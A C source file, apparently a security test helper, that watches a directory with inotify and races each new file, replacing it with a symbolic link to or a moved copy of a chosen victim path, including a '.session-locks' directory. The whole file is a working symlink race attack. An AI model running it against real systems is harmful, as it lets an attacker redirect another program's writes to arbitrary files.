/*
 * Waits for new files in a directory and puts something else in the place of each, as fast as it can, until it is ended.
 *
 *   attacker link   DIR VICTIM   each new file becomes a symbolic link to VICTIM
 *   attacker fresh  DIR VICTIM   the same, but no file of a lock: the new content of a compaction
 *   attacker move   DIR VICTIM   VICTIM, which lies beside DIR, is moved to where each new file was
 *   attacker folder DIR VICTIM   DIR/.session-locks becomes a symbolic link to the directory VICTIM
 */
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *how = argv[1], *dir = argv[2], *victim = argv[3];
    char events[64 * 1024] __attribute__((aligned(8))), name[4096], away[4096];
    struct stat what;
    int in = inotify_init();
    if (argc != 4 || inotify_add_watch(in, dir, IN_CREATE) < 0 || chdir(dir) < 0) {
        perror(dir);
        return 1;
    }
    puts("ready");
    fflush(stdout);
    for (;;) {
        ssize_t length = read(in, events, sizeof events);
        for (char *at = events; at < events + length;) {
            struct inotify_event *event = (struct inotify_event *) at;
            at += sizeof *event + event->len;
            snprintf(name, sizeof name, "%s", event->len ? event->name : "");
            snprintf(away, sizeof away, ".away-%s", name);
            if (!strcmp(how, "folder") ? strcmp(name, ".session-locks") : !strncmp(name, ".away", 5)
                    || (!strcmp(how, "fresh") && !strstr(name, ".compacting-"))) {
                continue;
            }
            if (lstat(name, &what) != 0 || S_ISLNK(what.st_mode)) {
                continue; // our own
            }
            if (!strcmp(how, "move")) {
                if (rename(name, away) == 0) {
                    rename(victim, name);
                }
            } else if (rename(name, away) == 0) {
                symlink(victim, name);
            }
        }
    }
}
